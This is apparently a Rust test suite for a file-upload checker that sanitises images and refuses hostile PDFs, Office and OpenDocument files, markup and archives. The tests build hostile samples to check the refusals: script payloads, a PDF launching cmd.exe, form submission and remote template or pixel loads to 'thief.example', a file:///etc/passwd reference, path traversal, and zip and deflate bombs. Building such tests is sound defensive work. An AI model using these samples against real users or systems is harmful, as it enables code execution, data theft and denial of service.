//! Hostile files, all made here.

use std::io::{Cursor, Write as _};

use comity_model::attachment::{MediaType, Refusal};
use flate2::Compression;
use flate2::write::{DeflateEncoder, ZlibEncoder};
use image::codecs::gif::GifEncoder;
use image::{Delay, DynamicImage, Frame, ImageFormat, Rgba, RgbaImage};

use super::{answer, check, understood};

fn taken(bytes: &[u8]) -> MediaType {
    check(bytes).unwrap_or_else(|refusal| panic!("{refusal}: {:?}", String::from_utf8_lossy(&bytes[..bytes.len().min(300)]))).media_type
}

fn refused(bytes: &[u8]) -> Refusal {
    check(bytes).map(|checked| checked.media_type).expect_err("it is refused")
}

/// A picture, red at the left and blue at the right.
fn picture(width: u32, height: u32) -> DynamicImage {
    DynamicImage::ImageRgba8(RgbaImage::from_fn(
        width,
        height,
        |x, _| if x < width / 2 { Rgba([255, 0, 0, 255]) } else { Rgba([0, 0, 255, 255]) },
    ))
}

fn encoded(picture: &DynamicImage, format: ImageFormat) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    let picture = if format == ImageFormat::Jpeg { DynamicImage::ImageRgb8(picture.to_rgb8()) } else { picture.clone() };
    picture.write_to(&mut out, format).expect("a picture");
    out.into_inner()
}

/// An EXIF block that says where a picture was taken, and which way it is turned.
fn exif(orientation: u8) -> Vec<u8> {
    let mut tiff = b"MM\0*\0\0\0\x08\0\x02".to_vec();
    tiff.extend([0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, orientation, 0, 0]);
    tiff.extend([0x01, 0x0e, 0, 2, 0, 0, 0, CANARY_LENGTH, 0, 0, 0, 38]);
    tiff.extend([0, 0, 0, 0]);
    tiff.extend(CANARY);
    tiff
}

const CANARY: &[u8] = b"GPS 51.5007N 0.1246W canary\0";
const CANARY_LENGTH: u8 = 28;

/// A JPEG with EXIF, XMP and IPTC, each with the canary, and with more behind its end.
fn photograph(orientation: u8) -> Vec<u8> {
    let segment = |marker: u8, head: &[u8], body: &[u8]| {
        let length = u16::try_from(head.len() + body.len() + 2).expect("short").to_be_bytes();
        [&[0xff, marker][..], &length, head, body].concat()
    };
    let jpeg = encoded(&picture(64, 32), ImageFormat::Jpeg);
    let (start, rest) = jpeg.split_at(2);
    let blocks = [
        segment(0xe1, b"Exif\0\0", &exif(orientation)),
        segment(0xe1, b"http://ns.adobe.com/xap/1.0/\0", CANARY),
        segment(0xed, b"Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x20", CANARY),
        segment(0xfe, b"", CANARY),
    ];
    [start, &blocks.concat(), rest, CANARY, b"PK\x03\x04<script>"].concat()
}

fn holds(bytes: &[u8], needle: &[u8]) -> bool {
    memchr::memmem::find(bytes, needle).is_some()
}

#[test]
fn w22_a_picture_keeps_nothing_but_what_it_shows() {
    let photograph = photograph(6);
    assert!(holds(&photograph, b"canary"), "the test's own photograph says where it was taken");
    let checked = check(&photograph).expect("a photograph");
    let anew = checked.anew.expect("it is written anew");
    assert_eq!(checked.media_type, MediaType::Jpeg);
    for trace in [&b"canary"[..], b"Exif", b"adobe", b"8BIM", b"<script>", b"PK\x03\x04"] {
        assert!(!holds(&anew, trace), "{}", String::from_utf8_lossy(trace));
    }
    let shown = image::load_from_memory(&anew).expect("a picture").to_rgb8();
    assert_eq!(shown.dimensions(), (32, 64), "it was turned before it forgot that it has to be");
    let (top, bottom) = (shown.get_pixel(16, 8), shown.get_pixel(16, 56));
    assert!(top.0[0] > 200 && bottom.0[2] > 200, "turned to the right, red is above: {top:?} {bottom:?}");

    // A PNG says things in its text chunks.
    let png = encoded(&picture(8, 8), ImageFormat::Png);
    let mut text = b"tEXtComment\0".to_vec();
    text.extend(CANARY);
    let mut crc = flate2::Crc::new();
    crc.update(&text);
    let length = u32::try_from(text.len() - 4).expect("short").to_be_bytes();
    let chunk = [&length[..], &text, &crc.sum().to_be_bytes()].concat();
    let anew = check(&[&png[..33], &chunk, &png[33..]].concat()).expect("a PNG").anew.expect("anew");
    assert!(!holds(&anew, b"canary"));
}

#[test]
fn w22_pictures_of_each_kind_become_jpeg_or_png() {
    for (format, expected) in [
        (ImageFormat::Jpeg, MediaType::Jpeg),
        (ImageFormat::Png, MediaType::Png),
        (ImageFormat::WebP, MediaType::Jpeg),
        (ImageFormat::Gif, MediaType::Png),
    ] {
        assert_eq!(taken(&encoded(&picture(40, 20), format)), expected, "{format:?}");
    }
    let glass = DynamicImage::ImageRgba8(RgbaImage::from_pixel(4, 4, Rgba([1, 2, 3, 100])));
    assert_eq!(taken(&encoded(&glass, ImageFormat::WebP)), MediaType::Png, "what is seen through stays so");
}

#[test]
fn w22_a_picture_larger_than_we_show_is_refused_before_it_is_decoded() {
    // A header is enough to ask for gigabytes.
    let mut png = encoded(&picture(2, 2), ImageFormat::Png);
    for (width, height) in [(50_000_u32, 50_000_u32), (12_001, 10), (7_000, 6_000), (u32::MAX >> 1, 1)] {
        png[16..20].copy_from_slice(&width.to_be_bytes());
        png[20..24].copy_from_slice(&height.to_be_bytes());
        let mut crc = flate2::Crc::new();
        crc.update(&png[12..29]);
        png[29..33].copy_from_slice(&crc.sum().to_be_bytes());
        assert_eq!(refused(&png), Refusal::Dimensions, "{width} × {height}");
    }
    for (broken, length) in [(ImageFormat::Png, 40), (ImageFormat::WebP, 20), (ImageFormat::Gif, 12)] {
        assert_eq!(refused(&encoded(&picture(40, 20), broken)[..length]), Refusal::Unreadable, "{broken:?}");
    }
    assert_eq!(refused(&[0xff, 0xd8, 0xff, 0xe0, 0, 0]), Refusal::Unreadable);
}

#[test]
fn w22_a_moving_picture_keeps_its_first_frame_and_has_at_most_a_hundred() {
    let film = |frames: usize| {
        let mut out = Vec::new();
        let mut encoder = GifEncoder::new(&mut out);
        for number in 0..frames {
            let color = if number == 0 { Rgba([255, 0, 0, 255]) } else { Rgba([0, 255, 0, 255]) };
            let frame = Frame::from_parts(RgbaImage::from_pixel(4, 4, color), 0, 0, Delay::from_numer_denom_ms(10, 1));
            encoder.encode_frame(frame).expect("a frame");
        }
        drop(encoder);
        out
    };
    let anew = check(&film(100)).expect("a hundred frames").anew.expect("anew");
    assert_eq!(image::load_from_memory(&anew).expect("a picture").to_rgba8().get_pixel(1, 1), &Rgba([255, 0, 0, 255]));
    assert_eq!(refused(&film(101)), Refusal::Frames);
}

#[test]
fn w21_markup_is_refused_under_whatever_name_and_text_is_taken() {
    for markup in [
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
        "\u{feff}  <?xml version=\"1.0\"?><a/>",
        "<!DOCTYPE html><p>x",
        "<HTML><body onload=alert(1)>",
        "hello <script>alert(1)</script>",
        "<!-- x --><svg/>",
        "<a xmlns=\"x\"/>",
    ] {
        assert_eq!(refused(markup.as_bytes()), Refusal::Markup, "{markup}");
    }
    for text in ["station;voters\nNorth;412\n", "Überschrift\r\nقائمة\r\n", "\u{feff}a,b\n1 < 2,3\n"] {
        assert_eq!(taken(text.as_bytes()), MediaType::Txt, "{text}");
    }
    let cases: &[(&[u8], Refusal)] = &[
        (b"", Refusal::Empty),
        (b"caf\xe9;1\n", Refusal::Encoding),
        (b"\xff\xfea\0b\0", Refusal::Encoding),
        (b"MZ\x90\0\x03\0\0\0\xff", Refusal::Unknown),
        (b"\x7fELF\x02\x01\x01", Refusal::Unknown),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0", Refusal::Unknown),
        (b"{\\rtf1 {\\object}}", Refusal::Unknown),
        (b"%!PS-Adobe-3.0\n", Refusal::Unknown),
        (b"#!/bin/sh\nrm x\n", Refusal::Unknown),
        (b"a\0b", Refusal::Unknown),
    ];
    for (bytes, refusal) in cases {
        assert_eq!(refused(bytes), *refusal, "{:?}", String::from_utf8_lossy(bytes));
    }
}

fn pdf(body: &str) -> Vec<u8> {
    format!("%PDF-1.7\n%\u{e2}\u{e3}\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R {body} >>\nendobj\n2 0 obj\n<< /Type /Pages /Count 0 /Kids [] >>\nendobj\ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n").into_bytes()
}

fn deflated(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).expect("memory");
    encoder.finish().expect("memory")
}

/// A PDF with a stream of its own dictionary.
fn pdf_with(dictionary: &str, data: &[u8]) -> Vec<u8> {
    let mut out = pdf("");
    out.extend(format!("7 0 obj\n<< {dictionary} /Length {} >>\nstream\r\n", data.len()).into_bytes());
    out.extend(data);
    out.extend(b"\r\nendstream\nendobj\n");
    out
}

#[test]
fn w23_a_pdf_that_acts_is_refused() {
    for action in [
        "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        "/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>",
        "/OpenAction<</S/#4a#61#76#61#53#63#72#69#70#74/JS(x)>>",
        "/AA << /WC << /S /Launch /F (cmd.exe) >> >>",
        "/Names << /EmbeddedFiles 9 0 R >>",
        "/AF [ << /Type /Filespec /EF << /F 9 0 R >> >> ] /X << /Type /EmbeddedFile >>",
        "/Annots [ << /Subtype /RichMedia >> ]",
        "/Annots [ << /Subtype /FileAttachment >> ]",
        "/A << /S /SubmitForm /F (https://thief.example/) >>",
        "/AcroForm << /XFA 9 0 R >>",
        "/A << /S /GoToE >>",
    ] {
        assert_eq!(refused(&pdf(action)), Refusal::Acts, "{action}");
    }
    assert_eq!(refused(&pdf("/X 1 >>\nendobj\ntrailer << /Encrypt 9 0 R")), Refusal::Locked);
    for harmless in [
        "/OpenAction [ 3 0 R /FitH 800 ]",
        "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>",
        "/AcroForm << /Fields [ 5 0 R ] /DA (/Helv 0 Tf) >>",
        "/A << /S /URI /URI (https://ashford.example/) >>",
        "/Title (JavaScript and Launch)",
        "/JavaScripts 1 /Launched 2",
    ] {
        assert_eq!(taken(&pdf(harmless)), MediaType::Pdf, "{harmless}");
    }
}

#[test]
fn w23_a_pdf_that_acts_in_an_object_stream_is_refused() {
    let bad = b"3 0 << /S /JavaScript /JS (app.alert(1)) >>";
    let good = b"3 0 << /Type /Font /BaseFont /Helvetica >>";
    let flate = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode";
    assert_eq!(taken(&pdf_with(flate, &deflated(good))), MediaType::Pdf);
    assert_eq!(refused(&pdf_with(flate, &deflated(bad))), Refusal::Acts);
    assert_eq!(refused(&pdf_with(flate, &deflated(b"3 0 << /S /Rendition /JS (x) >>"))), Refusal::Acts);
    assert_eq!(refused(&pdf_with("/Type /ObjStm /N 1 /First 4", bad)), Refusal::Acts);
    // Readers take what an end that is cut off leaves.
    let cut = deflated(&[&bad[..], &[b' '; 4_000]].concat());
    assert_eq!(refused(&pdf_with(flate, &cut[..cut.len() - 6])), Refusal::Acts);
    // A reader that does not look at the type still finds it by its place.
    assert_eq!(refused(&pdf_with("/N 1 /First 4 /Filter [ /FlateDecode ]", &deflated(bad))), Refusal::Acts);
    // In a form that shows nothing of what it says.
    let hidden = crate::post::hex(bad);
    for packed in [
        "/Type /ObjStm /N 1 /First 4 /Filter [ /ASCIIHexDecode /FlateDecode ]",
        "/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode",
        "/Type /ObjStm /N 1 /First 4 /Filter 8 0 R",
        "/Type /ObjStm /N 1 /First 4 /Filt#65r /ASCII85Decode",
        "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>",
        "/Type /ObjStm /N 1 /First 4 /F (elsewhere.bin)",
        "/Type /ObjStm /N 1 /First 4 /Filter [ /ASCIIHexDecode /FlateDecode ] /X (1 0 obj <<)",
        "/Type /ObjStm /N 1 /First 4 /Filter [ /ASCIIHexDecode /FlateDecode ] % 1 0 obj <<\n",
        "/Type /ObjStm /N 1 /First 4 /Filter [ /ASCIIHexDecode /FlateDecode ] /obj 1",
        "/Type /ObjStm /N 1 /First 4 /Filter [ /ASCIIHexDecode /FlateDecode ] /X (1 0 obj << \\( )",
    ] {
        assert_eq!(refused(&pdf_with(packed, hidden.as_bytes())), Refusal::Unreadable, "{packed}");
    }
    // Other streams may be packed as they like: what they hold is drawn, not done.
    assert_eq!(taken(&pdf_with("/Subtype /Image /Filter [ /ASCII85Decode /DCTDecode ]", b"~>")), MediaType::Pdf);
    assert_eq!(
        taken(&pdf_with("/Type /XRef /Filter /FlateDecode /DecodeParms << /Predictor 12 >> /ID [(\\(a) (b)]", b"x")),
        MediaType::Pdf
    );
    let bomb = deflated(&vec![b' '; 129 * 1024 * 1024]);
    assert_eq!(refused(&pdf_with(flate, &bomb)), Refusal::Unreadable);
}

/// A ZIP archive, the entries deflated.
fn archive(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for (name, bytes) in entries {
        let mut encoder = DeflateEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(bytes).expect("memory");
        let packed = encoder.finish().expect("memory");
        let number = |size: usize| u32::try_from(size).expect("small").to_le_bytes();
        let sizes =
            [&[0; 4][..], &number(packed.len()), &number(bytes.len()), &u16::try_from(name.len()).expect("short").to_le_bytes(), &[0, 0]]
                .concat();
        let head = [&[20, 0, 0, 0, 8, 0, 0, 0, 0, 0][..], &sizes].concat();
        let offset = number(out.len());
        directory.extend([&b"PK\x01\x02\x14\0"[..], &head, &[0; 10], &offset, name.as_bytes()].concat());
        out.extend([b"PK\x03\x04", &head[..], name.as_bytes(), &packed].concat());
    }
    let count = u16::try_from(entries.len()).expect("few").to_le_bytes();
    let (size, offset) = (u32::try_from(directory.len()).expect("small"), u32::try_from(out.len()).expect("small"));
    out.extend(directory);
    out.extend([&b"PK\x05\x06\0\0\0\0"[..], &count, &count, &size.to_le_bytes(), &offset.to_le_bytes(), &[0, 0]].concat());
    out
}

const WORD: &[u8] = br#"<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;

fn word(more: &[(&str, &[u8])]) -> Vec<u8> {
    let mut entries: Vec<(&str, &[u8])> = vec![("[Content_Types].xml", WORD), ("word/document.xml", b"<w:document/>")];
    entries.extend(more);
    archive(&entries)
}

fn relation(kind: &str, rest: &str) -> Vec<u8> {
    let types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    format!("<Relationships><Relationship Id=\"r1\" Type=\"{types}/{kind}\" {rest}/></Relationships>").into_bytes()
}

#[test]
fn w21_office_documents_without_macros_are_taken() {
    assert_eq!(taken(&word(&[])), MediaType::Docx);
    let types = |main: &str| String::from_utf8_lossy(WORD).replace("wordprocessingml.document", main).into_bytes();
    assert_eq!(taken(&archive(&[("[Content_Types].xml", &types("spreadsheetml.sheet"))])), MediaType::Xlsx);
    assert_eq!(taken(&archive(&[("[Content_Types].xml", &types("presentationml.presentation"))])), MediaType::Pptx);
    for media_type in [MediaType::Odt, MediaType::Ods, MediaType::Odp] {
        let content: &[u8] = b"<office:document-content xmlns:xlink=\"http://www.w3.org/1999/xlink\"><text:a xlink:href=\"https://ashford.example/?a&amp;b\">x</text:a><draw:image xlink:href=\"Pictures/a.png\"/></office:document-content>";
        let meta: &[u8] = b"<meta:template xlink:href=\"file:///C:/a.ott\"/>";
        let entries = [("mimetype", media_type.name().as_bytes()), ("content.xml", content), ("meta.xml", meta)];
        assert_eq!(taken(&archive(&entries)), media_type);
    }
    let link = relation("hyperlink", "Target=\"https://ashford.example/?Type=a&amp;b\" TargetMode=\"External\"");
    assert_eq!(taken(&word(&[("word/_rels/document.xml.rels", &link)])), MediaType::Docx);
    let chart = archive(&[("[Content_Types].xml", &types("spreadsheetml.sheet"))]);
    assert_eq!(taken(&word(&[("word/embeddings/Sheet1.xlsx", &chart)])), MediaType::Docx);
    assert_eq!(taken(&word(&[("xl/printerSettings/printerSettings1.bin", b"x")])), MediaType::Docx);
}

#[test]
fn w21_office_documents_that_act_are_refused() {
    let macros: &[u8] = br#"<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#;
    let bad_chart = archive(&[("[Content_Types].xml", WORD), ("xl/vbaProject.bin", b"x")]);
    let cases: &[(Vec<u8>, Refusal)] = &[
        (archive(&[("[Content_Types].xml", macros)]), Refusal::Macros),
        (word(&[("word/vbaProject.bin", b"x")]), Refusal::Macros),
        (word(&[("xl/macrosheets/sheet1.xml", b"<x/>")]), Refusal::Macros),
        (word(&[("word/_rels/document.xml.rels", &relation("vbaProject", "Target=\"other.bin2\""))]), Refusal::Macros),
        (word(&[("word/activeX/activeX1.xml", b"<x/>")]), Refusal::Objects),
        (word(&[("word/embeddings/oleObject1.bin", b"x")]), Refusal::Objects),
        (word(&[("word/_rels/document.xml.rels", &relation("oleObject", "Target=\"a.dat\""))]), Refusal::Objects),
        (word(&[("word/embeddings/Sheet1.xlsx", &bad_chart)]), Refusal::Macros),
        (word(&[("word/embeddings/Sheet1.xlsm", b"x")]), Refusal::Macros),
        (
            word(&[(
                "word/_rels/settings.xml.rels",
                &relation("attachedTemplate", "Target=\"https://thief.example/a.dotm\" TargetMode=\"External\""),
            )]),
            Refusal::Loads,
        ),
        (
            word(&[("word/_rels/document.xml.rels", &relation("image", "TargetMode = 'External' Target=\"https://thief.example/pixel\""))]),
            Refusal::Loads,
        ),
        (
            word(&[("word/_rels/document.xml.rels", &relation("image", "Target='x Type=\"a/hyperlink\"' TargetMode='External'"))]),
            Refusal::Loads,
        ),
        (word(&[("word/_rels/document.xml.rels", &relation("image", "TargetMode=\"&#69;xternal\" Target=\"a\""))]), Refusal::Unreadable),
        (word(&[("word/_rels/document.xml.rels", b"<!DOCTYPE x [<!ENTITY y \"External\">]><x/>")]), Refusal::Unreadable),
        (word(&[("word/_rels/document.xml.rels", b"\xff\xfe<\0R\0")]), Refusal::Unreadable),
        (word(&[("xl/connections.xml", b"<x/>")]), Refusal::Loads),
        (archive(&[("hello.txt", b"hello")]), Refusal::Unknown),
        (archive(&[("[Content_Types].xml", b"<Types/>")]), Refusal::Unknown),
    ];
    for (index, (bytes, refusal)) in cases.iter().enumerate() {
        assert_eq!(refused(bytes), *refusal, "case {index}");
    }
    let text = MediaType::Odt.name().as_bytes();
    let open = |name: &'static str, bytes: &[u8]| refused(&archive(&[("mimetype", text), (name, bytes)]));
    assert_eq!(open("Basic/Standard/Module1.xml", b"<x/>"), Refusal::Macros);
    assert_eq!(open("Scripts/python/a.py", b"x"), Refusal::Macros);
    assert_eq!(
        open("content.xml", b"<a xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\"><script:event-listener/></a>"),
        Refusal::Macros
    );
    assert_eq!(
        open("content.xml", b"<a xmlns:s=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\"><s:event-listener/></a>"),
        Refusal::Unreadable
    );
    assert_eq!(open("content.xml", b"<a xmlns:s=\"urn&#58;oasis\"/>"), Refusal::Unreadable);
    assert_eq!(open("Object 1/content.xml", b"<draw:image xlink:href=\"https://thief.example/pixel\"/>"), Refusal::Loads);
    assert_eq!(open("content.xml", b"<text:section-source xlink:href=\"file:///etc/passwd\"/>"), Refusal::Loads);
    assert_eq!(open("content.xml", b"<draw:object-ole xlink:href=\"./Object 1\"/>"), Refusal::Objects);
    assert_eq!(open("Object 1", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), Refusal::Objects);
    assert_eq!(open("META-INF/manifest.xml", b"<manifest:encryption-data/>"), Refusal::Locked);
}

#[test]
fn w21_archives_that_lie_are_refused() {
    let honest = word(&[]);
    assert_eq!(taken(&honest), MediaType::Docx);
    // A bomb: the sizes that it declares, and more than it declares.
    let zeros = vec![0; 101 * 1024 * 1024];
    assert_eq!(refused(&word(&[("word/media/a.bmp", &zeros)])), Refusal::Unreadable);
    let mut understated = word(&[("word/media/a.bmp", &[7; 9_000])]);
    let places: Vec<usize> = memchr::memmem::find_iter(&understated, &9_000_u32.to_le_bytes()).collect();
    for at in places {
        understated[at..at + 4].copy_from_slice(&7_u32.to_le_bytes());
    }
    assert_eq!(refused(&understated), Refusal::Unreadable);
    // Two entries over the same bytes, two of one name, a name that climbs, another name in the two headers.
    let mut shared = archive(&[("[Content_Types].xml", WORD), ("word/a.xml", b"<x/>"), ("word/b.xml", b"<x/>")]);
    let b = memchr::memmem::find(&shared, b"word/b.xml").expect("its header") - 30;
    let of_a = memchr::memmem::find(&shared, b"word/a.xml").expect("its header") - 30;
    let line = memchr::memmem::rfind(&shared, b"word/b.xml").expect("its line");
    shared[line - 4..line].copy_from_slice(&u32::try_from(of_a).expect("small").to_le_bytes());
    assert_eq!(refused(&shared), Refusal::Unreadable, "{b}");
    assert_eq!(refused(&word(&[("word/document.xml", b"<x/>")])), Refusal::Unreadable);
    assert_eq!(refused(&word(&[("WORD/document.xml", b"<x/>")])), Refusal::Unreadable);
    assert_eq!(refused(&word(&[("../evil", b"x")])), Refusal::Unreadable);
    let mut renamed = honest.clone();
    let at = memchr::memmem::find(&renamed, b"word/document.xml").expect("a name");
    renamed[at] = b'v';
    assert_eq!(refused(&renamed), Refusal::Unreadable);
    // Something before the first entry, behind the end, in the middle, or only the beginning.
    assert_eq!(refused(&[&honest[..], b"x"].concat()), Refusal::Unreadable);
    assert_eq!(refused(&[b"PK\x03\x04", &honest[..]].concat()), Refusal::Unreadable);
    assert_eq!(refused(&honest[..honest.len() / 2]), Refusal::Unreadable);
    let mut locked = honest;
    let at = memchr::memmem::find(&locked, b"PK\x01\x02").expect("a line");
    locked[at + 8] |= 1;
    assert_eq!(refused(&locked), Refusal::Locked);
}

#[test]
fn an_answer_is_understood_as_it_was_meant() {
    for bytes in [&b"just text"[..], b"<svg/>", &encoded(&picture(4, 4), ImageFormat::Png)] {
        assert_eq!(understood(&answer(bytes)), check(bytes));
    }
    for wrong in [&b""[..], b"image/png", b"image/png\n", b"text/html\nx", b"application/pdf\nother bytes", b"thread 'main' panicked\n"] {
        assert_eq!(understood(wrong), Err(Refusal::Unreadable), "{:?}", String::from_utf8_lossy(wrong));
    }
}

/// Whatever bytes come, there is an answer: these begin as each kind does, and go on as they like.
#[test]
fn garbage_is_refused_and_nothing_panics() {
    let heads: &[&[u8]] =
        &[b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"GIF89a", b"RIFF\0\0\0\0WEBPVP8 ", b"%PDF-", b"PK\x03\x04", b"PK\x05\x06", b""];
    let mut state = 1_u64;
    for round in 0..400 {
        let mut bytes = heads[round % heads.len()].to_vec();
        for _ in 0..round {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            bytes.push(state.to_be_bytes()[1]);
        }
        let _either = check(&bytes);
    }
    // Each byte of a good file, changed.
    let good = word(&[]);
    for at in 0..good.len() {
        let mut changed = good.clone();
        changed[at] ^= 0xff;
        let _either = check(&changed);
    }
}
